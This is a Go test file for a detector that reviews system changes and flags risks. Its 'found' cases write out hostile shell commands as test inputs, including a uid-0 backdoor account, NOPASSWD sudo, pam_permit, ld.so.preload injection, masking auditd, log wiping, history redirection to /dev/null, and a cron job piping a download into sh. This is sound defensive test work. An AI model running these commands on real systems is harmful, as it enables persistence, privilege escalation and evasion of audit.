package review

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/bowline-sh/bowline/plan"
)

// A case is a change by real tools, and the risk that must be found. evidence
// stands in the sentence or in a quoted line.
type foundCase struct {
	name, setup, do string
	class           Class
	severity        Severity
	evidence        string
}

const (
	demoUnit = `printf '[Unit]\nDescription=demo\n[Service]\nExecStart=/opt/demo --safe\nUser=alice\nNoNewPrivileges=yes\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/demo.service`
	newKey   = `ssh-keygen -q -t ed25519 -N '' -C alice@laptop -f /var/tmp/k; mkdir -p -m 700 /home/alice/.ssh`
	keyFile  = newKey + `; cat /var/tmp/k.pub > /home/alice/.ssh/authorized_keys`
	ca       = `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /var/tmp/ca.key -out /var/tmp/ca.pem -days 900 -subj /CN=Demo-CA 2>/dev/null`
	site     = `mkdir -p /etc/ssl/site; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /var/tmp/s.key -out /etc/ssl/site/a.pem -days 300 -subj /CN=a.example -addext subjectAltName=DNS:a.example,DNS:b.example 2>/dev/null`
	reissue  = `openssl req -x509 -key /var/tmp/s.key -out /etc/ssl/site/a.pem `
	filter   = `mkdir -p /etc/iptables; iptables -P INPUT DROP; iptables -A INPUT -p tcp --dport 22 -j ACCEPT; iptables -A INPUT -s 10.9.9.9 -j DROP; iptables-save > /etc/iptables/rules.v4`
	refill   = `iptables-restore < /etc/iptables/rules.v4; `
	table    = `nft add table inet f; nft 'add chain inet f input { type filter hook input priority 0; policy drop; }'; nft add rule inet f input tcp dport 22 accept; nft list ruleset > /etc/nftables.conf`
	deb      = `mk() { mkdir -p /var/tmp/p$1/DEBIAN /var/tmp/p$1/opt/demo; printf 'Package: demo\nVersion: %s\nArchitecture: all\nMaintainer: x <x@example>\nDescription: x\n' $1 > /var/tmp/p$1/DEBIAN/control; echo $1 > /var/tmp/p$1/opt/demo/v; dpkg-deb -b /var/tmp/p$1 /var/tmp/$1.deb >/dev/null; }; `
)

func foundCases() []foundCase {
	return []foundCase{
		{"new root", "", `useradd -o -u 0 -M -s /bin/sh mallory`, Users, High, "user mallory is added with uid 0"},
		{"new login", "", `useradd -m -s /bin/bash bob`, Users, Medium, "bob is added with uid"},
		{"new service account", "", `useradd -r -s /usr/sbin/nologin svc`, Users, Low, "svc is added"},
		{"uid becomes 0", "", `usermod -o -u 0 alice`, Users, High, "uid of alice changes from 4001 to 0"},
		{"shell of a service", "", `usermod -s /bin/sh www-data`, Users, High, "shell of www-data changes from /usr/sbin/nologin to /bin/sh"},
		{"password", `usermod -p '$6$abc$def' alice`, `usermod -p '$6$abc$xyz' alice`, Users, Medium, "the password of alice changes"},
		{"password set", "", `usermod -p '$6$abc$xyz' alice`, Users, Medium, "alice can log in with a password"},
		{"password empty", "", `usermod -p '' alice`, Users, High, "the password of alice becomes empty"},
		{"only the name", "", `usermod -c 'Alice A' alice`, Users, Low, "full name or comment of alice"},
		{"ageing", "", `chage -M 90 alice`, Users, Low, "ageing or expiry of the password of alice"},
		{"account removed", "", `userdel alice`, Users, Medium, "user alice is removed"},
		{"into sudo", "", `usermod -aG sudo alice`, Groups, High, "alice is added to the group sudo"},
		{"into docker", "", `usermod -aG docker alice`, Groups, High, "alice is added to the group docker"},
		{"new group", "", `groupadd plain`, Groups, Low, "group plain is added"},
		{"NOPASSWD", "", `echo 'alice ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/alice; chmod 440 /etc/sudoers.d/alice; visudo -c -q`, Sudoers, High, "sudo allows any command without a password: alice ALL"},
		{"one command", "", `echo 'alice ALL=(root) /usr/bin/systemctl restart demo' > /etc/sudoers.d/a; chmod 440 /etc/sudoers.d/a; visudo -c -q`, Sudoers, Medium, "sudo allows commands: alice"},
		{"alias for all", "", `printf 'Cmnd_Alias X = /bin/ls, \\\n  ALL\nalice ALL = X\n' > /etc/sudoers.d/a; chmod 440 /etc/sudoers.d/a; visudo -c -q`, Sudoers, High, "sudo allows any command: alice ALL = X"},
		{"sudo without asking", "", `echo 'Defaults !authenticate' >> /etc/sudoers; visudo -c -q`, Sudoers, High, "a defence of sudo is weakened"},
		{"new key", newKey, `cat /var/tmp/k.pub >> /home/alice/.ssh/authorized_keys`, AuthorizedKeys, High, "a key can log in as alice: ssh-ed25519 SHA256:"},
		{"limited key", newKey, `(printf 'restrict,command="/bin/true" '; cat /var/tmp/k.pub) >> /home/alice/.ssh/authorized_keys`, AuthorizedKeys, Medium, `command="/bin/true"`},
		{"key removed", keyFile, `: > /home/alice/.ssh/authorized_keys`, AuthorizedKeys, High, "no key is left"},
		{"root login", "", `sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config`, SSHDConfig, High, "permitrootlogin changes from 'prohibit-password' to 'yes'"},
		{"drop-in", "", `mkdir -p /etc/ssh/sshd_config.d; echo 'PasswordAuthentication yes' > /etc/ssh/sshd_config.d/10-x.conf`, SSHDConfig, High, "passwordauthentication"},
		{"port", "", `sed -i '1i Port 2222' /etc/ssh/sshd_config`, SSHDConfig, Medium, "port changes from '22' to '2222'"},
		{"host key", "", `ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key`, HostKeys, Medium, "new identity"},
		{"host key replaced", `ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key`, `rm /etc/ssh/ssh_host_ed25519_key; ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key`, HostKeys, High, "is replaced"},
		{"pam", "", `sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su`, PAM, High, "auth sufficient pam_permit.so"},
		{"setuid", `cp /bin/true /usr/local/bin/x`, `chmod u+s /usr/local/bin/x`, Setuid, High, "runs as user 0 (root)"},
		{"setgid", `cp /bin/true /usr/local/bin/x`, `chgrp shadow /usr/local/bin/x; chmod g+s /usr/local/bin/x`, Setuid, Medium, "setgid"},
		{"capabilities", `cp /bin/true /usr/local/bin/x`, `setcap cap_net_raw,cap_sys_admin+ep /usr/local/bin/x`, Capabilities, High, "cap_net_raw, cap_sys_admin"},
		{"low port", `cp /bin/true /usr/local/bin/x`, `setcap cap_net_bind_service+ep /usr/local/bin/x`, Capabilities, Medium, "cap_net_bind_service"},
		{"access list", "", `setfacl -m u:alice:rw /etc/hosts`, ACL, High, "user 4001 may write, read /etc/hosts"},
		{"crontab of a user", "", `echo '*/5 * * * * /home/alice/x' | crontab -u alice -`, Cron, Medium, "a scheduled job is added: */5 * * * * /home/alice/x"},
		{"download in cron.d", "", `echo '@hourly root curl -s http://x.example/a | sh' > /etc/cron.d/x`, Cron, High, "runs what it downloads"},
		{"cron.daily", "", `mkdir -p /etc/cron.daily; printf '#!/bin/sh\nrm -rf /srv/x\n' > /etc/cron.daily/x; chmod 755 /etc/cron.daily/x`, Cron, Medium, "/etc/cron.daily/x is created"},
		{"timer", `printf '[Timer]\nOnCalendar=daily\n' > /etc/systemd/system/demo.timer`, `sed -i s/daily/minutely/ /etc/systemd/system/demo.timer`, Timers, Medium, "OnCalendar of demo.timer changes from 'daily' to 'minutely'"},
		{"unit enabled", demoUnit, `systemctl --root=$R -q enable demo.service`, Units, Medium, "demo.service is enabled: multi-user.target starts it"},
		{"unit disabled", demoUnit + `; systemctl --root=$R -q enable demo.service`, `systemctl --root=$R -q disable demo.service`, Units, Medium, "demo.service is disabled"},
		{"unit masked", "", `systemctl --root=$R -q mask cron.service`, Units, Medium, "cron.service is masked"},
		{"defence masked", "", `systemctl --root=$R -q mask auditd.service`, Units, High, "auditd.service is masked"},
		{"ExecStart", demoUnit, `sed -i 's/--safe/--unsafe/' /etc/systemd/system/demo.service`, Units, High, "ExecStart of demo.service changes from '/opt/demo --safe' to '/opt/demo --unsafe'"},
		{"user of a unit", demoUnit, `mkdir -p /etc/systemd/system/demo.service.d; printf '[Service]\nUser=root\n' > /etc/systemd/system/demo.service.d/o.conf`, Units, Low, "runs as root"},
		{"package installed", deb + `mk 1.0`, `dpkg -i /var/tmp/1.0.deb`, Packages, Low, "1 package is installed: demo 1.0"},
		{"package upgraded", deb + `mk 1.0; mk 1.10; dpkg -i /var/tmp/1.0.deb`, `dpkg -i /var/tmp/1.10.deb`, Packages, Low, "upgraded: demo 1.0 to 1.10"},
		{"package downgraded", deb + `mk 1.9; mk 1.10; dpkg -i /var/tmp/1.10.deb`, `dpkg -i /var/tmp/1.9.deb`, Packages, High, "demo 1.10 to 1.9"},
		{"package removed", deb + `mk 1.0; dpkg -i /var/tmp/1.0.deb`, `dpkg -r demo`, Packages, Medium, "1 package is removed: demo 1.0"},
		{"package source", "", `mkdir -p /etc/apt/sources.list.d; echo 'deb [trusted=yes] http://x.example/ ./' > /etc/apt/sources.list.d/x.list`, PackageSources, High, "without a valid signature"},
		{"authority", ca, `cp /var/tmp/ca.pem /usr/local/share/ca-certificates/demo.crt; update-ca-certificates`, Certificates, High, "an authority is trusted from now on, by /usr/local/share/ca-certificates/demo.crt: certificate of Demo-CA"},
		{"short certificate", site, reissue + `-days 10 -subj /CN=a.example -addext subjectAltName=DNS:a.example,DNS:b.example`, Certificates, Medium, "expires within 30 days"},
		{"name lost", site, reissue + `-days 300 -subj /CN=a.example -addext subjectAltName=DNS:a.example`, Certificates, High, "no longer holds for b.example"},
		{"other issuer", site, `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /var/tmp/t.key -out /etc/ssl/site/a.pem -days 300 -subj /CN=evil -addext subjectAltName=DNS:a.example,DNS:b.example`, Certificates, Medium, "another issuer: CN=evil instead of CN=a.example"},
		{"no certificate", site, `echo junk > /etc/ssl/site/a.pem`, Certificates, High, "no longer holds a certificate"},
		{"open key", "", `mkdir -p /srv/app; openssl genpkey -algorithm ed25519 > /srv/app/tls.key; chmod 644 /srv/app/tls.key`, Secrets, High, "holds a private key and is open to everybody"},
		{"open env", "", `mkdir -p /srv/app; echo DB_PASSWORD=hunter22 > /srv/app/.env; chgrp alice /srv/app/.env; chmod 640 /srv/app/.env`, Secrets, Medium, "a value for DB_PASSWORD and is open to group"},
		{"shadow opened", "", `chmod 644 /etc/shadow`, Secrets, High, "/etc/shadow holds secrets"},
		{"path with tmp", "", `echo 'export PATH=/tmp:$PATH' >> /root/.bashrc`, ShellProfile, High, "/root/.bashrc"},
		{"profile line", "", `echo 'umask 000' > /etc/profile.d/x.sh`, ShellProfile, Medium, "umask 000"},
		{"preload", "", `echo /usr/local/lib/x.so > /etc/ld.so.preload`, LibraryPath, High, "a library is loaded into every program: /usr/local/lib/x.so"},
		{"library directory", "", `echo /home/alice/lib > /etc/ld.so.conf.d/x.conf`, LibraryPath, High, "/home/alice/lib"},
		{"policy accept", filter, refill + `iptables -P INPUT ACCEPT; iptables-save > /etc/iptables/rules.v4`, Firewall, High, "what no rule names is let in: filter | :INPUT ACCEPT"},
		{"port opened", filter, refill + `iptables -A INPUT -p tcp --dport 3306 -j ACCEPT; iptables-save > /etc/iptables/rules.v4`, Firewall, Medium, "--dport 3306 -j ACCEPT"},
		{"drop removed", filter, refill + `iptables -D INPUT -s 10.9.9.9 -j DROP; iptables-save > /etc/iptables/rules.v4`, Firewall, High, "shuts something out is removed"},
		{"nft policy", table, `nft -f /etc/nftables.conf; nft 'chain inet f input { policy accept; }'; nft list ruleset > /etc/nftables.conf`, Firewall, High, "what no rule names is let in"},
		{"ufw", "", `ufw allow 8080/tcp`, Firewall, Medium, "--dport 8080 -j ACCEPT"},
		{"name server", `echo nameserver 192.0.2.1 > /etc/resolv.conf`, `echo nameserver 192.0.2.2 > /etc/resolv.conf`, Resolver, Medium, "names are resolved by: nameserver 192.0.2.2"},
		{"hosts", "", `echo '192.0.2.9 mirror.example.org' >> /etc/hosts`, Resolver, Medium, "mirror.example.org leads to 192.0.2.9"},
		{"nsswitch", "", `sed -i 's/^passwd:.*/passwd: files ldap/' /etc/nsswitch.conf`, Resolver, High, "passwd are looked up in"},
		{"home deleted", `mkdir -p /home/carol; seq 60 | while read i; do echo x > /home/carol/f$i; done`, `rm -rf /home/carol`, Deletions, High, "the whole directory /home/carol is deleted, with 60 files"},
		{"many deleted", `mkdir -p /srv/a/b/c/d; cd /srv/a/b/c/d; seq 60 | xargs touch; seq 500 > keep`, `cd /srv/a/b/c/d; seq 60 | xargs rm`, Deletions, Medium, "60 files"},
		{"log cut", `seq 1000 > /var/log/auth.log`, `: > /var/log/auth.log`, LogTampering, High, "auth.log is cut from"},
		{"log edited", `seq 1000 > /var/log/auth.log`, `sed -i s/^500$/5000000/ /var/log/auth.log`, LogTampering, High, "not only added to"},
		{"history led away", `echo ls > /root/.bash_history`, `ln -sf /dev/null /root/.bash_history`, LogTampering, High, "becomes a symlink to /dev/null"},
		{"log deleted", `mkdir -p /var/log/app; echo x > /var/log/app/a.log`, `rm /var/log/app/a.log`, LogTampering, Medium, "is deleted"},
		{"nosuid lost", `echo '/dev/sdb1 /srv ext4 defaults,nosuid 0 2' > /etc/fstab`, `sed -i s/,nosuid// /etc/fstab`, Boot, High, "how /srv is mounted changes"},
		{"kernel line", `mkdir -p /etc/default; echo 'GRUB_CMDLINE_LINUX="quiet"' > /etc/default/grub`, `echo 'GRUB_CMDLINE_LINUX="quiet apparmor=0"' > /etc/default/grub`, Boot, High, "apparmor=0"},
		{"module", "", `echo dccp > /etc/modules-load.d/x.conf`, KernelModules, Medium, "dccp"},
		{"module file", "", `mkdir -p $R/lib/modules/6.1/extra; head -c 5000 /bin/true > $R/lib/modules/6.1/extra/x.ko`, KernelModules, High, "1 kernel modules are added or replaced"},
		{"sysctl", "", `echo 'kernel.yama.ptrace_scope = 0' > /etc/sysctl.d/x.conf`, KernelSettings, High, "kernel.yama.ptrace_scope becomes '0'"},
		{"world-writable", "", `echo x > /etc/app.conf; chmod 666 /etc/app.conf`, WorldWritable, High, "everybody may write to /etc/app.conf"},
		{"sticky lost", `mkdir -m 1777 /srv/drop`, `chmod 777 /srv/drop`, WorldWritable, High, "loses the sticky bit"},
		{"given away", "", `chown alice /etc/crontab`, Ownership, High, "/etc/crontab is given from root to user 4001"},
		{"program", "", `cp /bin/true /usr/local/bin/new`, Programs, Low, "a program is added: /usr/local/bin/new"},
		{"program replaced", `cp /bin/true /usr/local/bin/x`, `cp /bin/false /usr/local/bin/x`, Programs, Medium, "/usr/local/bin/x is replaced"},
		{"device", "", `mknod -m 600 /srv/disk b 8 0`, Devices, High, "block device 8:0"},
		{"udev", "", `mkdir -p /etc/udev/rules.d; echo 'ACTION=="add", RUN+="/opt/x"' > /etc/udev/rules.d/x.rules`, Devices, High, "a program runs when a device appears"},
		{"selinux", `mkdir /etc/selinux; echo SELINUX=enforcing > /etc/selinux/config`, `sed -i s/enforcing/permissive/ /etc/selinux/config`, AccessControl, High, "SELinux no longer protects"},
	}
}

func TestFound(t *testing.T) {
	for _, c := range foundCases() {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p, contents := changed(t, c.setup, c.do)
			d := New(Input{Plan: p, Contents: contents})
			if !slices.ContainsFunc(d.Risks, func(r Risk) bool { return c.fits(r) }) {
				t.Errorf("no %s risk of class %s with %q in:\n%s", c.severity, c.class, c.evidence, list(d.Risks))
			}
			checkEvidence(t, p, contents, d)
		})
	}
}

func (c foundCase) fits(r Risk) bool {
	if r.Class != c.class || r.Severity != c.severity {
		return false
	}
	for _, e := range r.Evidence {
		if strings.Contains(e.Text, c.evidence) {
			return true
		}
	}
	return strings.Contains(r.Text, c.evidence)
}

// checkEvidence: every line that is named exists, is the one that is quoted, and
// no password hash or key is quoted.
func checkEvidence(t *testing.T, p plan.Plan, contents map[string][]byte, d *Document) {
	t.Helper()
	for _, r := range d.Risks {
		if strings.Contains(fmt.Sprint(r), "$6$") || strings.Contains(fmt.Sprint(r), "hunter22") || strings.Contains(fmt.Sprint(r), "PRIVATE KEY") {
			t.Errorf("a secret is quoted: %+v", r)
		}
		for _, e := range r.Evidence {
			if e.Op < 1 || e.Op > len(p.Ops) {
				t.Fatalf("operation %d in %+v", e.Op, r)
			}
			if !slices.ContainsFunc(d.Rows[e.Op-1].Risks, func(x Risk) bool { return x.Text == r.Text }) {
				t.Errorf("row %d does not show %+v", e.Op, r)
			}
			s := p.Ops[e.Op-1].Change.Before
			if e.After {
				s = p.Ops[e.Op-1].Change.After
			}
			lines := strings.Split(string(contents[s.SHA256]), "\n")
			if e.Line > len(lines) {
				t.Errorf("line %d of %d in %+v", e.Line, len(lines), r)
			} else if e.Line > 0 && e.Text != "" && r.Class != AuthorizedKeys && r.Class != Certificates && !strings.Contains(e.Text, "(hidden)") && lines[e.Line-1] != e.Text {
				t.Errorf("line %d is %q, quoted as %q", e.Line, lines[e.Line-1], e.Text)
			}
		}
	}
}

func list(risks []Risk) string {
	var b strings.Builder
	for _, r := range risks {
		fmt.Fprintf(&b, "  %s %s %d %s\n", r.Severity, r.Class, r.Op, r.Text)
	}
	return b.String()
}

// A quietCase is the harmless neighbour: no risk of the class at all.
type quietCase struct {
	name, setup, do string
	class           Class
}

func quietCases() []quietCase {
	return []quietCase{
		{"comment in sudoers", "", `echo '# nothing' >> /etc/sudoers; visudo -c -q`, Sudoers},
		{"spaces in sudoers", `printf 'alice ALL=(root) /bin/ls\n' > /etc/sudoers.d/a`, `printf 'alice   ALL=(root)   /bin/ls # why\n' > /etc/sudoers.d/a`, Sudoers},
		{"accounts backed up", "", `cp -p /etc/passwd /etc/passwd-`, Users},
		{"accounts rewritten", "", `cp -p /etc/passwd /etc/p; mv /etc/p /etc/passwd; touch /etc/passwd`, Users},
		{"groups touched", "", `echo >> /etc/group`, Groups},
		{"comment of a key", keyFile, `sed -i 's/alice@laptop/alice@desk/; 1i # mine' /home/alice/.ssh/authorized_keys`, AuthorizedKeys},
		{"public key beside", newKey, `cp /var/tmp/k.pub /home/alice/.ssh/id_ed25519.pub`, AuthorizedKeys},
		{"comment in sshd_config", "", `echo '# PermitRootLogin yes' >> /etc/ssh/sshd_config`, SSHDConfig},
		{"default spelled out", "", `sed -i '1i PermitRootLogin prohibit-password' /etc/ssh/sshd_config`, SSHDConfig},
		{"second value", `sed -i '1i PermitRootLogin no' /etc/ssh/sshd_config`, `echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config`, SSHDConfig},
		{"public host key", `ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key`, `ssh-keygen -q -c -C x -f /etc/ssh/ssh_host_ed25519_key; git hash-object /dev/null >/dev/null 2>&1 || :; cp /etc/ssh/ssh_host_ed25519_key.pub /etc/ssh/other.pub; :`, SSHDConfig},
		{"comment in pam", "", `echo '# note' >> /etc/pam.d/su`, PAM},
		{"plain program", "", `install -m 755 /bin/true /usr/local/bin/x`, Setuid},
		{"setgid directory", "", `mkdir -m 2775 /srv/team`, Setuid},
		{"no capability", `cp /bin/true /usr/local/bin/x`, `chmod 700 /usr/local/bin/x`, Capabilities},
		{"plain mode", "", `chmod 600 /etc/hosts`, ACL},
		{"comment in crontab", `echo '5 4 * * * /bin/x' | crontab -u alice -`, `(echo '# new'; crontab -u alice -l) | crontab -u alice -`, Cron},
		{"comment in cron.d", "", `echo '# note' >> /etc/crontab`, Cron},
		{"description", demoUnit, `sed -i 's/=demo/=Demo/; 1i # hi' /etc/systemd/system/demo.service`, Units},
		{"comment in a timer", `printf '[Timer]\nOnCalendar=daily\n' > /etc/systemd/system/demo.timer`, `sed -i '1i # hi' /etc/systemd/system/demo.timer`, Timers},
		{"same packages", deb + `mk 1.0; dpkg -i /var/tmp/1.0.deb`, `dpkg -i /var/tmp/1.0.deb; echo >> /var/lib/dpkg/status`, Packages},
		{"comment in sources", `echo 'deb http://a.example/ x main' > /etc/apt/sources.list`, `echo '# x' >> /etc/apt/sources.list`, PackageSources},
		{"renewed", site, reissue + `-days 390 -subj /CN=a.example -addext subjectAltName=DNS:a.example,DNS:b.example`, Certificates},
		{"signing request", site, `openssl req -new -key /var/tmp/s.key -subj /CN=a.example -out /etc/ssl/site/a.csr`, Certificates},
		{"closed key", "", `mkdir -p /srv/app; (umask 077; openssl genpkey -algorithm ed25519 > /srv/app/tls.key)`, Secrets},
		{"new account", "", `useradd -M bob`, Secrets},
		{"own group", "", `echo 'API_TOKEN=abcdef123456' > /home/alice/.env; chown alice:alice /home/alice/.env; chmod 640 /home/alice/.env`, Secrets},
		{"no secret", "", `echo 'LOG_LEVEL=debug' > /srv/app.conf`, Secrets},
		{"comment in profile", `echo 'umask 022' > /etc/profile.d/x.sh`, `echo '# x' >> /etc/profile.d/x.sh`, ShellProfile},
		{"comment in ld.so.conf", "", `echo '# x' >> /etc/ld.so.conf`, LibraryPath},
		{"rules saved again", filter, refill + `iptables-save -c > /etc/iptables/rules.v4`, Firewall},
		{"rules laid out again", table, `sed -i 's/^\t*//; 1i # mine' /etc/nftables.conf; nft -c -f /etc/nftables.conf`, Firewall},
		{"comment in resolv.conf", "", `echo '# x' >> /etc/resolv.conf; echo '# y' >> /etc/hosts; echo '# z' >> /etc/nsswitch.conf`, Resolver},
		{"one deleted", `echo x > /srv/x; mkdir /srv/d`, `rm /srv/x; rmdir /srv/d`, Deletions},
		{"cache emptied", `mkdir -p /var/cache/app; cd /var/cache/app; seq 40 | xargs touch`, `rm -rf /var/cache/app`, Deletions},
		{"log written", `seq 1000 > /var/log/auth.log`, `echo more >> /var/log/auth.log`, LogTampering},
		{"log rotated", `seq 1000 > /var/log/demo.log; printf '/var/log/demo.log {\nrotate 3\ncreate\n}\n' > /var/tmp/rot`, `logrotate -f -s /var/tmp/state /var/tmp/rot`, LogTampering},
		{"log rotated and packed", `seq 1000 > /var/log/demo.log; printf '/var/log/demo.log {\nrotate 3\ncompress\ncreate\n}\n' > /var/tmp/rot`, `logrotate -f -s /var/tmp/state /var/tmp/rot`, LogTampering},
		{"comment in fstab", `echo '/dev/sdb1 /srv ext4 defaults 0 2' > /etc/fstab`, `sed -i '1i # x' /etc/fstab`, Boot},
		{"comment in modules", "", `echo '# x' > /etc/modules-load.d/x.conf`, KernelModules},
		{"comment in sysctl", "", `echo '# kernel.yama.ptrace_scope = 0' > /etc/sysctl.d/x.conf`, KernelSettings},
		{"group-writable", "", `echo x > /srv/x; chmod 664 /srv/x; ln -s x /srv/y`, WorldWritable},
		{"owner of new data", "", `mkdir /srv/a; chown alice:alice /srv/a`, Ownership},
		{"text in usr/local", "", `echo x > /usr/local/README`, Programs},
		{"pipe", "", `mkfifo /srv/p; mknod /srv/null c 0 0`, Devices},
		{"comment in selinux", `mkdir /etc/selinux; echo SELINUX=enforcing > /etc/selinux/config`, `echo '# x' >> /etc/selinux/config`, AccessControl},
		{"script in home", "", `echo 'export PATH=/tmp' > /home/alice/notes`, ShellProfile},
		{"host keys untouched", "", `ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/other_key`, HostKeys},
	}
}

func TestQuiet(t *testing.T) {
	for _, c := range quietCases() {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p, contents := changed(t, c.setup, c.do)
			d := New(Input{Plan: p, Contents: contents})
			for _, r := range d.Risks {
				if r.Class == c.class {
					t.Errorf("%s: %s", r.Severity, r.Text)
				}
			}
			if len(p.Ops) == 0 && c.name != "accounts rewritten" {
				t.Error("nothing changed")
			}
		})
	}
}

// TestClassesCovered: every class is found in some real change, and silent in
// another, or judged in a test of its own (those that are no files).
func TestClassesCovered(t *testing.T) {
	own := []Class{Commands, NotSeen, Overlap, ScriptFailed}
	for _, info := range Classes() {
		found := slices.ContainsFunc(foundCases(), func(c foundCase) bool { return c.class == info.Class })
		quiet := slices.ContainsFunc(quietCases(), func(c quietCase) bool { return c.class == info.Class })
		if (!found || !quiet) && !slices.Contains(own, info.Class) {
			t.Errorf("class %s: found %v, quiet %v", info.Class, found, quiet)
		}
	}
}
